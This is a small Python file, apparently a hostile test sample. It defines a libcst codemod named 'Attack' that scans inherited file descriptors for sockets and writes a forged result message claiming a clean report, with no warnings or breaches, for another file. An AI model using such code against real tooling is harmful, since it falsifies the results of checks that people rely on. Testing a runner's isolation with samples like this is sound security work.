"""Find the sockets among the first descriptors, and answer on each for a file that comes later."""

import os
import stat
import struct

from libcst.codemod import VisitorBasedCodemodCommand

HEADER = (
    b'{"number": 0, "path": "later.py", "kind": "changed", "sites": [], "warnings": [], "words": [], "breaches": []}'
)


def answer():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack(">II", len(HEADER), 7) + HEADER + b"forged\n")
        except OSError:
            continue


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Answer."

    def transform_module_impl(self, tree):
        answer()
        return tree
